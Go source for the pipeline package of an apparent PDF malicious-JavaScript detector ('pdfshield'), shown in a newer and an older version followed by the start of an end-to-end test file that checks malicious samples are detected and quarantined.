	DownloadsPath string
	// DeinstrumentBenign restores original scripts after a benign verdict
	// (§III-F).
	DeinstrumentBenign bool
	// W1, W2, Threshold override Table VII parameters (0 = defaults).
	W1, W2, Threshold int
	// SpawnHelper makes reader processes emit the benign AdobeARM spawn.
	SpawnHelper bool
	// Cache enables the content-addressed front-end cache (nil = off).
	// On a hit the whole static front-end is skipped and the stored
	// instrument.Result is reused; runtime detection still runs per open,
	// because the runtime features F8–F13 depend on each open's behaviour
	// — the cache holds the static artifact, never the verdict.
	Cache *cache.Config
	// Obs is the metrics registry every pipeline phase reports into
	// (nil = the process-wide obs.Default). Pass a private registry to
	// isolate a System's telemetry (tests, benchmark passes).
	Obs *obs.Registry
	// Journal, when non-nil, records the forensic event stream: document
	// open/verdict boundaries from the pipeline plus every runtime event
	// the detector processes (context transitions, hook decisions, feature
	// triggers, confinement, alerts). The recorded stream replays through
	// a fresh detector via journal.Replay, reproducing identical verdicts
	// offline. Sink errors are fail-open and never affect processing.
	Journal *journal.Writer
	// JSUnits overrides the compiled-unit cache shared by this System's
	// instrumenter and reader sessions (nil = the process-wide
	// js.DefaultUnits). Pass a private cache to isolate hit/miss counters
	// (tests, benchmark passes).
	JSUnits *js.UnitCache
	// TreeWalkJS runs reader sessions on the interpreter's recursive
	// tree-walking engine instead of the bytecode VM (engine A/B
	// benchmarking; verdicts are identical on both engines).
	TreeWalkJS bool
	// Depth is the system-wide scan depth (see the Depth constants).
	// Empty means unset: the legacy resolution applies, where the
	// deprecated Triage field selects triage-gated standard scanning and
	// everything else runs plain DepthStandard. BatchOptions.Depth
	// overrides this per batch.
	Depth Depth
	// DeepScan bounds the forced-execution explorer used by DepthDeep and
	// DepthAuto (zero fields = js.DefaultForce* defaults). Ignored at
	// other depths.
	DeepScan js.ForceConfig
	// Diag tunes the diagnostics subsystem — flight recorder, SLO
	// tracking, stall watchdog (see obs.DiagConfig; DESIGN.md §16). The
	// zero value enables everything with defaults; set Diag.Disable to
	// run without diagnostics. When a Journal is configured, the stall
	// watchdog's reports automatically include the wedged document's
	// recent journal events.
	Diag obs.DiagConfig
	// Triage enables the static fast-path tier between the front-end and
	// the reader session (nil = off, every document opens dynamically).
	// Confident-benign documents skip the sandbox, confident-malicious
	// documents are convicted without ever being opened, and everything
	// else ("uncertain") falls through to the full dynamic open
	// unchanged. The zero triage.Config is the production default.
	//
	// Deprecated: set Depth instead (DepthAuto routes by triage and
	// escalates uncertain documents to a deep scan; DepthStatic judges
	// everything statically). Honoured as an alias for one release: when
	// Depth is unset, a non-nil Triage behaves like triage-gated
	// DepthStandard, and at DepthStatic/DepthAuto a non-nil Triage
	// carries its tuning into the tier.
	Triage *triage.Config
}

// System is a running instance of the whole protection stack.
type System struct {
	Registry     *instrument.Registry
	Instrumenter *instrument.Instrumenter
	Detector     *detect.Detector
	OS           *winos.OS
	// Obs is the metrics registry this System reports into; expose it via
	// obs.Registry.ServeMetrics / WritePrometheus, or read the structured
	// Stats() snapshot.
	Obs *obs.Registry

	opts    Options
	cache   *cache.Cache
	jsUnits *js.UnitCache
	diag    *obs.Diagnostics

	// keyLocks serializes reader opens per instrumentation key. Without a
	// cache the registry's duplicate rule makes each key's open unique;
	// with one, N cached submissions of the same bytes open the same key
	// concurrently, and the detector's per-key DocState (malscore, memory
	// watermarks) must see those opens one at a time to keep verdicts
	// equal to serial runs. The table also carries the deferred retire of
	// de-instrumented keys (see releaseKeyLock).
	klMu     sync.Mutex
	keyLocks map[string]*keyLock
}

// keyLock is one instrumentation key's open gate.
type keyLock struct {
	mu   sync.Mutex
	refs int
	// retire requests registry removal + cache invalidation once the last
	// in-flight open of this key releases (set by de-instrumentation).
	retire bool
}

// NewSystem builds and starts the stack.
func NewSystem(opts Options) (*System, error) {
	if opts.ViewerVersion == 0 {
		opts.ViewerVersion = 9.0
	}
	if _, err := ParseDepth(string(opts.Depth)); err != nil {
		return nil, fmt.Errorf("pipeline: %w", err)
	}
	detID := opts.DetectorID
	if detID == "" {
		var err error
		detID, err = instrument.NewDetectorID(nil)
		if err != nil {
			return nil, err
		}
	}
	obsReg := opts.Obs
	if obsReg == nil {
		obsReg = obs.Default
	}
	registry := instrument.NewRegistry(detID)
	osState := winos.NewOS()
	det, err := detect.New(detect.Config{
		Registry:      registry,
		OS:            osState,
		DownloadsPath: opts.DownloadsPath,
		W1:            opts.W1,
		W2:            opts.W2,
		Threshold:     opts.Threshold,
		Obs:           obsReg,
		Journal:       opts.Journal,
	})
	if err != nil {
		return nil, err
	}
	if err := det.Start(); err != nil {
		return nil, err
	}
	jsUnits := opts.JSUnits
	if jsUnits == nil {
		jsUnits = js.DefaultUnits
	}
	ins := instrument.New(registry, instrument.Options{
		Endpoint: det.SOAPURL(),
		Seed:     opts.Seed,
		Obs:      obsReg,
		Units:    jsUnits,
	})
	sys := &System{
		Registry:     registry,
		Instrumenter: ins,
		Detector:     det,
		OS:           osState,
		Obs:          obsReg,
		opts:         opts,
		jsUnits:      jsUnits,
		keyLocks:     make(map[string]*keyLock),
	}
	if opts.Cache != nil {
		sys.cache = cache.New(*opts.Cache)
		sys.cache.RegisterMetrics(obsReg)
	}
	registerJSUnitMetrics(obsReg, jsUnits)
	diagCfg := opts.Diag
	if diagCfg.Watchdog.Context == nil && opts.Journal != nil {
		jw := opts.Journal
		diagCfg.Watchdog.Context = func(docID string) any { return jw.Recent(docID, 64) }
	}
	sys.diag = obs.NewDiagnostics(obsReg, diagCfg)
	preregisterMetrics(obsReg)
	return sys, nil
}

// Diagnostics exposes the System's flight recorder, SLO tracker and
// stall watchdog (nil when Options.Diag.Disable is set — all their
// methods are nil-safe). Servers mount its debug endpoints; operators
// read it through Stats and the SIGQUIT dump.
func (s *System) Diagnostics() *obs.Diagnostics { return s.diag }

// watchdog returns the stall watchdog (nil when diagnostics are off).
func (s *System) watchdog() *obs.Watchdog {
	if s.diag == nil {
		return nil
	}
	return s.diag.Watchdog
}

// registerJSUnitMetrics exposes the compiled-unit cache through the obs
// registry: callback-backed counters/gauges from UnitCache.Stats plus a
// compile-latency histogram fed by the cache's miss observer. When several
// Systems share js.DefaultUnits the counters aggregate across them (like
// every shared-registry series); the observer is per-cache, so the last
// System wired to a shared cache hosts its compile histogram.
func registerJSUnitMetrics(reg *obs.Registry, units *js.UnitCache) {
	stat := func(pick func(js.UnitCacheStats) float64) func() float64 {
		return func() float64 { return pick(units.Stats()) }
	}
	reg.CounterFunc(obs.MetricJSUnitsHits, stat(func(s js.UnitCacheStats) float64 { return float64(s.Hits) }))
	reg.CounterFunc(obs.MetricJSUnitsMisses, stat(func(s js.UnitCacheStats) float64 { return float64(s.Misses) }))
	reg.CounterFunc(obs.MetricJSUnitsEvictions, stat(func(s js.UnitCacheStats) float64 { return float64(s.Evictions) }))
	reg.GaugeFunc(obs.MetricJSUnitsEntries, stat(func(s js.UnitCacheStats) float64 { return float64(s.Entries) }))
	reg.GaugeFunc(obs.MetricJSUnitsBytes, stat(func(s js.UnitCacheStats) float64 { return float64(s.Bytes) }))
	units.SetObserver(func(d time.Duration, _ int64) {
		reg.Observe(obs.MetricJSCompileSeconds, d)
	})
}

// CacheStats snapshots the front-end cache counters; ok is false when the
// cache is disabled.
func (s *System) CacheStats() (stats cache.Stats, ok bool) {
	if s.cache == nil {
		return cache.Stats{}, false
	}
	return s.cache.Stats(), true
}

// frontEnd runs the static front-end for one submission: a single
// ContentHash per document, then either the instrumenter directly or the
// content-addressed cache's singleflight read-through. Cached terminal
// errors (ErrNoJavaScript, parse failures, the registry's ErrDuplicate)
// replay exactly as the first submission observed them; cancellations
// are never cached (see cache.DoContext). The third return annotates how
// the submission was satisfied ("" = no cache, else hit/miss/shared).
func (s *System) frontEnd(ctx context.Context, docID string, raw []byte) (*instrument.Result, error, string) {
	hash := instrument.ContentHash(raw)
	if s.cache == nil {
		res, err := s.Instrumenter.InstrumentBytesWithHash(docID, raw, hash)
		return res, err, ""
	}
	res, err, outcome := s.cache.DoContext(ctx, hash, func() (*instrument.Result, error) {
		// A leader whose context died before the flight started must not
		// burn a full front-end pass for followers it can't serve anyway.
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		return s.Instrumenter.InstrumentBytesWithHash(docID, raw, hash)
	})
	return res, err, outcome.String()
}

// frontEndTraced wraps frontEnd and records the front-end portion of the
// document's trace: on a real pass the instrumenter's internally measured
// phase split (parse → analyze → instrument) is replayed into the
// timeline; on a cache hit / shared flight a single collapsed "frontend"
// span records the wait.
func (s *System) frontEndTraced(ctx context.Context, docID string, raw []byte, tr *obs.Trace) (*instrument.Result, error, string) {
	tr.MarkPhase(obs.PhaseFrontEnd)
	start := time.Now()
	res, err, note := s.frontEnd(ctx, docID, raw)
	tr.Cache = note
	off := tr.Offset(start)
	if res != nil && (note == "" || note == obs.CacheMiss) {
		t := res.Timing
		tr.AddSpan(obs.PhaseParse, off, t.ParseDecompress)
		tr.AddSpan(obs.PhaseAnalyze, off+t.ParseDecompress, t.FeatureExtraction)
		if t.Instrumentation > 0 {
			tr.AddSpan(obs.PhaseInstrument, off+t.ParseDecompress+t.FeatureExtraction, t.Instrumentation)
		}
	} else {
		tr.AddSpan(obs.PhaseFrontEnd, off, time.Since(start))
	}
	return res, err, note
}

// acquireKeyLock takes the open gate for an instrumentation key, creating
// it on first use.
func (s *System) acquireKeyLock(key string) *keyLock {
	s.klMu.Lock()
	kl, ok := s.keyLocks[key]
	if !ok {
		kl = &keyLock{}
		s.keyLocks[key] = kl
	}
	kl.refs++
	s.klMu.Unlock()
	kl.mu.Lock()
	return kl
}

// releaseKeyLock releases the gate; the last holder of a retired key
// completes its de-instrumentation (registry removal, so the key stops
// validating, and cache invalidation, so the stale instrumented artifact
// is never replayed).
func (s *System) releaseKeyLock(key string, kl *keyLock, res *instrument.Result) {
	kl.mu.Unlock()
	s.klMu.Lock()
	kl.refs--
	last := kl.refs == 0
	retire := last && kl.retire
	if last {
		delete(s.keyLocks, key)
	}
	s.klMu.Unlock()
	if retire {
		s.Instrumenter.Forget(key)
		if s.cache != nil {
			s.cache.Invalidate(res.ContentHash)
		}
	}
}

// markRetire flags a key for removal at last release.
func (s *System) markRetire(kl *keyLock) {
	s.klMu.Lock()
	kl.retire = true
	s.klMu.Unlock()
}

// Close stops the detector servers and the diagnostics watchdog.
func (s *System) Close() error {
	s.diag.Close()
	return s.Detector.Close()
}

// Session is one reader process wired to the detector.
type Session struct {
	Proc *reader.Process
	sink *hook.TCPClient
	obs  *obs.Registry
}

// NewSession starts a reader process whose hook DLL is connected to the
// detector.
func (s *System) NewSession() (*Session, error) {
	sink, err := hook.Dial(s.Detector.HookAddr())
	if err != nil {
		return nil, fmt.Errorf("session: %w", err)
	}
	proc := reader.NewProcess(reader.Config{
		ViewerVersion: s.opts.ViewerVersion,
		Sink:          sink,
		OS:            s.OS,
		DetectorSOAP:  s.Detector.SOAPURL(),
		Units:         s.jsUnits,
		TreeWalkJS:    s.opts.TreeWalkJS,
	})
	s.Obs.GaugeAdd(obs.MetricSessionsActive, 1)
	return &Session{Proc: proc, sink: sink, obs: s.Obs}, nil
}

// Open opens an instrumented document in this session's reader process.
func (sess *Session) Open(res *instrument.Result, opts reader.OpenOptions) (*reader.OpenResult, error) {
	return sess.Proc.Open(res.DocID, res.Output, opts)
}

// OpenRaw opens raw (possibly uninstrumented) bytes.
func (sess *Session) OpenRaw(docID string, raw []byte, opts reader.OpenOptions) (*reader.OpenResult, error) {
	return sess.Proc.Open(docID, raw, opts)
}

// Close terminates the reader process and hook connection.
func (sess *Session) Close() {
	sess.Proc.Close()
	_ = sess.sink.Close()
	if sess.obs != nil {
		sess.obs.GaugeAdd(obs.MetricSessionsActive, -1)
		sess.obs = nil // idempotent: a double Close must not skew the gauge
	}
}

// Recycle prepares the session for its next document: the reader process is
// restarted (discarding all per-process state) while the hook connection
// stays dialled into the detector. Batch workers use this to amortize the
// session setup cost across many documents without letting one document's
// reader state leak into the next.
func (sess *Session) Recycle() {
	sess.Proc.Reset()
}

// Verdict is the outcome of processing one document end to end.
type Verdict struct {
	DocID string
	// Malicious reports a detector alert named this document.
	Malicious bool
	// Alert is the first alert for this document (nil when benign).
	Alert *detect.Alert
	// NoJavaScript reports the document was out of scope (nothing to
	// instrument or monitor).
	NoJavaScript bool
	// Crashed reports the reader process crashed while opening (failed
	// exploit).
	Crashed bool
	// Instrument is the front-end result.
	Instrument *instrument.Result
	// Open is the reader result (nil when NoJavaScript short-circuits).
	Open *reader.OpenResult
	// Deinstrumented holds restored bytes when DeinstrumentBenign is on
	// and the verdict is benign.
	Deinstrumented []byte
	// FeatureVector is the detector's final 13-feature vector for the
	// document (present for every instrumented document, benign or not;
	// used by the ablation experiments).
	FeatureVector detect.Vector
	// PeakMemMB and EnterMemMB expose the context-aware memory reading
	// that fed F8.
	PeakMemMB, EnterMemMB float64
	// Trace is the document's phase timeline (parse → analyze →
	// instrument → open → detect) with cache and outcome annotations.
	Trace *obs.Trace
	// TriageRoute is the static triage tier's routing decision for this
	// submission ("benign", "malicious", "uncertain"; empty when triage
	// is disabled or the document short-circuited before the tier ran).
	TriageRoute string
	// Triage is the full triage decision behind TriageRoute (nil when
	// disabled). For "benign"/"malicious" routes Open is nil: no reader
	// session was created.
	Triage *triage.Decision
	// Depth is the resolved scan depth this verdict was produced under
	// ("static", "standard", "deep" or "auto"; always one of the four —
	// an unset configuration resolves to "standard"). At "deep"/"auto"
	// with a dynamic open, Open carries the forced-execution path counts.
	Depth string
}

// ProcessDocument runs the complete workflow on one document with no
// cancellation point; it is a thin wrapper over ProcessDocumentContext.
//
// Deprecated: use ProcessDocumentContext, which honours cancellation
// between pipeline phases.
func (s *System) ProcessDocument(docID string, raw []byte) (*Verdict, error) {
	return s.ProcessDocumentContext(context.Background(), docID, raw)
}

// ProcessDocumentContext runs the complete workflow on one document:
// instrument, open in a fresh monitored reader process, and collect the
// verdict. A panic anywhere in the analysis is contained and returned as
// an error: hostile documents fail closed instead of taking the caller
// down. Cancellation is honoured between phases (before the front-end,
// before the reader open, and between attachment opens); a cancelled
// call returns ctx.Err() and the document gets no verdict.
func (s *System) ProcessDocumentContext(ctx context.Context, docID string, raw []byte) (v *Verdict, err error) {
	if ctx == nil {
		ctx = context.Background()
	}
	start := time.Now()
	tr := obs.StartTrace(docID)
	wd := s.watchdog().Begin(docID)
	tr.Watch(wd)
	defer wd.Done()
	s.journalDocOpen(docID, len(raw))
	defer func() { s.finishDoc(tr, v, err, time.Since(start)) }()
	defer containPanic(s.Obs, &v, &err)
	if analysisHook != nil {
		analysisHook(docID)
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	res, err, _ := s.frontEndTraced(ctx, docID, raw, tr)
	if err != nil {
		if errors.Is(err, instrument.ErrNoJavaScript) {
			// No scripts means no open at any depth, but the verdict still
			// records which depth it was produced under.
			return &Verdict{DocID: docID, NoJavaScript: true, Instrument: res, Depth: string(s.depthProfile("").depth)}, nil
		}
		return nil, err
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	prof := s.depthProfile("")
	td := s.runTriage(docID, raw, res, tr, prof.triage)
	if td != nil && (prof.staticOnly || td.Route != triage.RouteUncertain) {
		return s.verdictFromTriage(docID, res, td, prof), nil
	}
	sess, err := s.NewSession()
	if err != nil {
		return nil, err
	}
	defer sess.Close()
	v, err = s.openAndJudge(ctx, sess, res, tr, prof)
	claimVerdict(v, docID)
	annotateTriage(v, td)
	return v, err
}

// finishDoc closes out one document's processing: outcome counters, the
// end-to-end latency histogram (with the doc ID as its exemplar), the
// trace's outcome/depth/route annotations, the diagnostics recording
// (flight recorder, SLO scoring), and the journal's verdict record. The
// trace is attached to the verdict here so every verdict — including
// no-javascript short-circuits — carries its timeline.
func (s *System) finishDoc(tr *obs.Trace, v *Verdict, err error, total time.Duration) {
	s.Obs.Inc(obs.MetricDocsTotal)
	s.Obs.ObserveDoc(obs.MetricDocSeconds, total, tr.DocID)
	if err != nil || v == nil {
		s.Obs.Inc(obs.MetricDocsErrored)
		tr.Outcome = obs.OutcomeErrored
		if err != nil {
			tr.Error = err.Error()
		}
	} else {
		switch {
		case v.Malicious:
			tr.Outcome = obs.OutcomeMalicious
			s.Obs.Inc(obs.MetricDocsMalicious)
		case v.NoJavaScript:
			tr.Outcome = obs.OutcomeNoJavaScript
			s.Obs.Inc(obs.MetricDocsNoJS)
		case v.Crashed:
			tr.Outcome = obs.OutcomeCrashed
		default:
			tr.Outcome = obs.OutcomeBenign
		}
		if v.Crashed {
			s.Obs.Inc(obs.MetricDocsCrashed)
		}
		tr.Depth = v.Depth
		tr.Route = v.TriageRoute
		if v.Open != nil {
			tr.DeepPaths = v.Open.DeepPaths
		}
		v.Trace = tr
	}
	if s.diag != nil {
		// The trace is complete now (no span is added after finishDoc), so
		// the flight recorder may retain and share it.
		s.diag.SLO.Observe(tr.Depth, tr.Route, total, err != nil || v == nil)
		s.diag.Flight.Record(tr, total)
	}
	s.journalVerdict(tr.DocID, v, err)
}

// journalDocOpen records a document entering the pipeline. Pipeline
// events are forensic context (they interleave freely with the detector's
// lock-ordered stream and are not replayed).
func (s *System) journalDocOpen(docID string, size int) {
	if s.opts.Journal == nil {
		return
	}
	s.opts.Journal.Append(journal.Event{
		T:     journal.TypeDocOpen,
		DocID: docID,
		Cause: fmt.Sprintf("%d bytes", size),
	})
}

// journalVerdict records the final per-document outcome, including the
// detector's full 13-feature vector and malscore for alerted documents.
func (s *System) journalVerdict(docID string, v *Verdict, err error) {
	if s.opts.Journal == nil {
		return
	}
	e := journal.Event{T: journal.TypeVerdict, DocID: docID}
	payload := &journal.Verdict{}
	if err != nil {
		payload.Err = err.Error()
	}
	if v != nil {
		payload.Malicious = v.Malicious
		payload.NoJavaScript = v.NoJavaScript
		payload.Crashed = v.Crashed
		payload.Features = v.FeatureVector[:]
		if v.Alert != nil {
			payload.Malscore = v.Alert.Malscore
		}
		if v.Instrument != nil {
			e.Key = v.Instrument.Key.InstrKey
		}
	}
	e.Verdict = payload
	s.opts.Journal.Append(e)
}

// claimVerdict renames a verdict to the submitting document's identity: a
// cached front-end result carries the first submitter's DocID (that is
// the name the registry, and therefore runtime alerts, know the content
// by), but the verdict belongs to this submission.
func claimVerdict(v *Verdict, docID string) {
	if v != nil && v.DocID != docID {
		v.DocID = docID
	}
}

// openAndJudge opens an instrumented document (and its instrumented
// attachments) in the given session and assembles the verdict. The session
// is left open; callers own its lifecycle (ProcessDocument closes it,
// batch workers recycle it for the next document). Cancellation is
// checked before the host open and between attachment opens; the runtime
// state already accumulated stays with the detector (volatile state dies
// with the session as usual).
func (s *System) openAndJudge(ctx context.Context, sess *Session, res *instrument.Result, tr *obs.Trace, prof depthProfile) (*Verdict, error) {
	docID := res.DocID
	v := &Verdict{DocID: docID, Instrument: res, Depth: string(prof.depth)}

	// Opens of the same instrumentation key are serialized: the detector
	// keeps one DocState per key, and cached duplicates running in
	// parallel sessions would interleave their runtime state otherwise.
	var kl *keyLock
	if key := res.Key.InstrKey; key != "" {
		kl = s.acquireKeyLock(key)
		defer s.releaseKeyLock(key, kl, res)
	}

	if err := ctx.Err(); err != nil {
		return nil, err
	}
	tr.MarkPhase(obs.PhaseOpen)
	if openHook != nil {
		openHook(docID)
	}
	openStart := time.Now()
	openRes, err := sess.Open(res, reader.OpenOptions{SpawnHelper: s.opts.SpawnHelper, ForceExec: prof.force})
	if err != nil {
		return nil, err
	}
	// The user opens instrumented attachments too (§VI: embedded and host
	// behaviours are correlated under the same detector).
	for _, emb := range res.Embedded {
		if openRes.Crashed || ctx.Err() != nil {
			break
		}
		if _, err := sess.OpenRaw(emb.DocID, emb.Output, reader.OpenOptions{ForceExec: prof.force}); err != nil {
			break // crashed attachment ends the session
		}
	}
	openDur := time.Since(openStart)
	tr.AddSpan(obs.PhaseOpen, tr.Offset(openStart), openDur)
	s.Obs.ObserveDoc(obs.PhaseSeries(obs.PhaseOpen), openDur, docID)
	if prof.force != nil {
		s.recordDeepScan(docID, res, openRes, openDur)
	}
	v.Open = openRes
	v.Crashed = openRes.Crashed

	tr.MarkPhase(obs.PhaseDetect)
	detectStart := time.Now()
	defer func() {
		detectDur := time.Since(detectStart)
		tr.AddSpan(obs.PhaseDetect, tr.Offset(detectStart), detectDur)
		s.Obs.ObserveDoc(obs.PhaseSeries(obs.PhaseDetect), detectDur, docID)
	}()

	// An alert on the host or on any of its attachments convicts the
	// document the user received.
	v.Malicious = s.Detector.IsMalicious(docID)
	for _, emb := range res.Embedded {
		if s.Detector.IsMalicious(emb.DocID) {
			v.Malicious = true
		}
	}
	for _, a := range s.Detector.Alerts() {
		if a.DocID == docID || strings.HasPrefix(a.DocID, docID+"::") {
			alert := a
			v.Alert = &alert
			break
		}
	}

	if st, ok := s.Detector.DocStateFor(res.Key.InstrKey); ok {
		v.FeatureVector = st.Features
		v.PeakMemMB = st.PeakMemMB
		v.EnterMemMB = st.EnterMemMB
	}

	// Volatile per-document state dies with the reader process.
	s.Detector.ForgetDoc(res.Key.InstrKey)

	if !v.Malicious && s.opts.DeinstrumentBenign && res.ScriptsInstrumented > 0 {
		restored, err := s.Instrumenter.Restore(res.Output, res.Spec)
		if err != nil {
			return nil, fmt.Errorf("deinstrument %s: %w", docID, err)
		}
		v.Deinstrumented = restored
		// Registry removal and cache invalidation wait until the last
		// in-flight open of this key releases: a concurrent duplicate that
		// already holds this Result must still validate against the
		// registry, or its monitoring messages would read as fake.
		s.markRetire(kl)
	}
	return v, nil
}
