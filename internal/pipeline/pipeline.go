// Package pipeline wires the full system together: the front-end
// instrumenter, the runtime detector (SOAP + hook servers), and simulated
// reader processes with the hook DLL dialled into the detector. It is the
// engine behind the public API, the example programs and the evaluation
// harness.
package pipeline

import (
	"errors"
	"fmt"
	"strings"

	"pdfshield/internal/detect"
	"pdfshield/internal/hook"
	"pdfshield/internal/instrument"
	"pdfshield/internal/reader"
	"pdfshield/internal/winos"
)

// Options configures a System.
type Options struct {
	// ViewerVersion for reader processes (default 9.0).
	ViewerVersion float64
	// Seed makes instrumentation randomization reproducible (0 = time).
	Seed int64
	// DetectorID fixes the install identity (default: random).
	DetectorID string
	// DownloadsPath persists the JS-context executable list.
	DownloadsPath string
	// DeinstrumentBenign restores original scripts after a benign verdict
	// (§III-F).
	DeinstrumentBenign bool
	// W1, W2, Threshold override Table VII parameters (0 = defaults).
	W1, W2, Threshold int
	// SpawnHelper makes reader processes emit the benign AdobeARM spawn.
	SpawnHelper bool
}

// System is a running instance of the whole protection stack.
type System struct {
	Registry     *instrument.Registry
	Instrumenter *instrument.Instrumenter
	Detector     *detect.Detector
	OS           *winos.OS

	opts Options
}

// NewSystem builds and starts the stack.
func NewSystem(opts Options) (*System, error) {
	if opts.ViewerVersion == 0 {
		opts.ViewerVersion = 9.0
	}
	detID := opts.DetectorID
	if detID == "" {
		var err error
		detID, err = instrument.NewDetectorID(nil)
		if err != nil {
			return nil, err
		}
	}
	registry := instrument.NewRegistry(detID)
	osState := winos.NewOS()
	det, err := detect.New(detect.Config{
		Registry:      registry,
		OS:            osState,
		DownloadsPath: opts.DownloadsPath,
		W1:            opts.W1,
		W2:            opts.W2,
		Threshold:     opts.Threshold,
	})
	if err != nil {
		return nil, err
	}
	if err := det.Start(); err != nil {
		return nil, err
	}
	ins := instrument.New(registry, instrument.Options{
		Endpoint: det.SOAPURL(),
		Seed:     opts.Seed,
	})
	return &System{
		Registry:     registry,
		Instrumenter: ins,
		Detector:     det,
		OS:           osState,
		opts:         opts,
	}, nil
}

// Close stops the detector servers.
func (s *System) Close() error { return s.Detector.Close() }

// Session is one reader process wired to the detector.
type Session struct {
	Proc *reader.Process
	sink *hook.TCPClient
}

// NewSession starts a reader process whose hook DLL is connected to the
// detector.
func (s *System) NewSession() (*Session, error) {
	sink, err := hook.Dial(s.Detector.HookAddr())
	if err != nil {
		return nil, fmt.Errorf("session: %w", err)
	}
	proc := reader.NewProcess(reader.Config{
		ViewerVersion: s.opts.ViewerVersion,
		Sink:          sink,
		OS:            s.OS,
		DetectorSOAP:  s.Detector.SOAPURL(),
	})
	return &Session{Proc: proc, sink: sink}, nil
}

// Open opens an instrumented document in this session's reader process.
func (sess *Session) Open(res *instrument.Result, opts reader.OpenOptions) (*reader.OpenResult, error) {
	return sess.Proc.Open(res.DocID, res.Output, opts)
}

// OpenRaw opens raw (possibly uninstrumented) bytes.
func (sess *Session) OpenRaw(docID string, raw []byte, opts reader.OpenOptions) (*reader.OpenResult, error) {
	return sess.Proc.Open(docID, raw, opts)
}

// Close terminates the reader process and hook connection.
func (sess *Session) Close() {
	sess.Proc.Close()
	_ = sess.sink.Close()
}

// Recycle prepares the session for its next document: the reader process is
// restarted (discarding all per-process state) while the hook connection
// stays dialled into the detector. Batch workers use this to amortize the
// session setup cost across many documents without letting one document's
// reader state leak into the next.
func (sess *Session) Recycle() {
	sess.Proc.Reset()
}

// Verdict is the outcome of processing one document end to end.
type Verdict struct {
	DocID string
	// Malicious reports a detector alert named this document.
	Malicious bool
	// Alert is the first alert for this document (nil when benign).
	Alert *detect.Alert
	// NoJavaScript reports the document was out of scope (nothing to
	// instrument or monitor).
	NoJavaScript bool
	// Crashed reports the reader process crashed while opening (failed
	// exploit).
	Crashed bool
	// Instrument is the front-end result.
	Instrument *instrument.Result
	// Open is the reader result (nil when NoJavaScript short-circuits).
	Open *reader.OpenResult
	// Deinstrumented holds restored bytes when DeinstrumentBenign is on
	// and the verdict is benign.
	Deinstrumented []byte
	// FeatureVector is the detector's final 13-feature vector for the
	// document (present for every instrumented document, benign or not;
	// used by the ablation experiments).
	FeatureVector detect.Vector
	// PeakMemMB and EnterMemMB expose the context-aware memory reading
	// that fed F8.
	PeakMemMB, EnterMemMB float64
}

// ProcessDocument runs the complete workflow on one document: instrument,
// open in a fresh monitored reader process, and collect the verdict. A panic
// anywhere in the analysis is contained and returned as an error: hostile
// documents fail closed instead of taking the caller down.
func (s *System) ProcessDocument(docID string, raw []byte) (v *Verdict, err error) {
	defer containPanic(&v, &err)
	if analysisHook != nil {
		analysisHook(docID)
	}
	res, err := s.Instrumenter.InstrumentBytes(docID, raw)
	if err != nil {
		if errors.Is(err, instrument.ErrNoJavaScript) {
			return &Verdict{DocID: docID, NoJavaScript: true, Instrument: res}, nil
		}
		return nil, err
	}
	sess, err := s.NewSession()
	if err != nil {
		return nil, err
	}
	defer sess.Close()
	return s.openAndJudge(sess, res)
}

// openAndJudge opens an instrumented document (and its instrumented
// attachments) in the given session and assembles the verdict. The session
// is left open; callers own its lifecycle (ProcessDocument closes it,
// batch workers recycle it for the next document).
func (s *System) openAndJudge(sess *Session, res *instrument.Result) (*Verdict, error) {
	docID := res.DocID
	v := &Verdict{DocID: docID, Instrument: res}

	openRes, err := sess.Open(res, reader.OpenOptions{SpawnHelper: s.opts.SpawnHelper})
	if err != nil {
		return nil, err
	}
	// The user opens instrumented attachments too (§VI: embedded and host
	// behaviours are correlated under the same detector).
	for _, emb := range res.Embedded {
		if openRes.Crashed {
			break
		}
		if _, err := sess.OpenRaw(emb.DocID, emb.Output, reader.OpenOptions{}); err != nil {
			break // crashed attachment ends the session
		}
	}
	v.Open = openRes
	v.Crashed = openRes.Crashed

	// An alert on the host or on any of its attachments convicts the
	// document the user received.
	v.Malicious = s.Detector.IsMalicious(docID)
	for _, emb := range res.Embedded {
		if s.Detector.IsMalicious(emb.DocID) {
			v.Malicious = true
		}
	}
	for _, a := range s.Detector.Alerts() {
		if a.DocID == docID || strings.HasPrefix(a.DocID, docID+"::") {
			alert := a
			v.Alert = &alert
			break
		}
	}

	if st, ok := s.Detector.DocStateFor(res.Key.InstrKey); ok {
		v.FeatureVector = st.Features
		v.PeakMemMB = st.PeakMemMB
		v.EnterMemMB = st.EnterMemMB
	}

	// Volatile per-document state dies with the reader process.
	s.Detector.ForgetDoc(res.Key.InstrKey)

	if !v.Malicious && s.opts.DeinstrumentBenign && res.ScriptsInstrumented > 0 {
		restored, err := s.Instrumenter.Deinstrument(res.Output, res.Spec)
		if err != nil {
			return nil, fmt.Errorf("deinstrument %s: %w", docID, err)
		}
		v.Deinstrumented = restored
	}
	return v, nil
}
