package pipeline

import (
	"strings"
	"testing"

	"pdfshield/internal/corpus"
	"pdfshield/internal/detect"
	"pdfshield/internal/reader"
)

func newSystem(t *testing.T, version float64) *System {
	t.Helper()
	sys, err := NewSystem(Options{ViewerVersion: version, Seed: 99})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sys.Close() })
	return sys
}

func TestEndToEndMaliciousDetected(t *testing.T) {
	sys := newSystem(t, 8.0)
	g := corpus.NewGenerator(101)
	s, ok := g.MaliciousFamily("mal-printf")
	if !ok {
		t.Fatal("family missing")
	}
	v, err := sys.ProcessDocument(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Fatalf("malicious sample not detected: open=%+v", v.Open)
	}
	if v.Alert == nil {
		t.Fatal("no alert attached")
	}
	if v.Alert.Malscore < detect.DefaultThreshold {
		t.Errorf("malscore = %d", v.Alert.Malscore)
	}
	if !v.Alert.Features.HasInJS() {
		t.Errorf("no in-JS feature in %v", v.Alert.Features)
	}
	// Confinement: dropped files are quarantined, sandboxed processes are
	// terminated (the payload mix also contains network-only payloads with
	// nothing to isolate).
	if v.Alert.Features[detect.FDropping] == 1 && sys.OS.QuarantineCount() == 0 {
		t.Error("dropped file not quarantined")
	}
	for _, p := range sys.OS.AliveProcesses() {
		if p.Sandboxed {
			t.Errorf("sandboxed process %v still alive after alert", p)
		}
	}
}

func TestEndToEndBenignClean(t *testing.T) {
	sys := newSystem(t, 9.0)
	g := corpus.NewGenerator(102)
	for _, s := range g.BenignWithJS(8) {
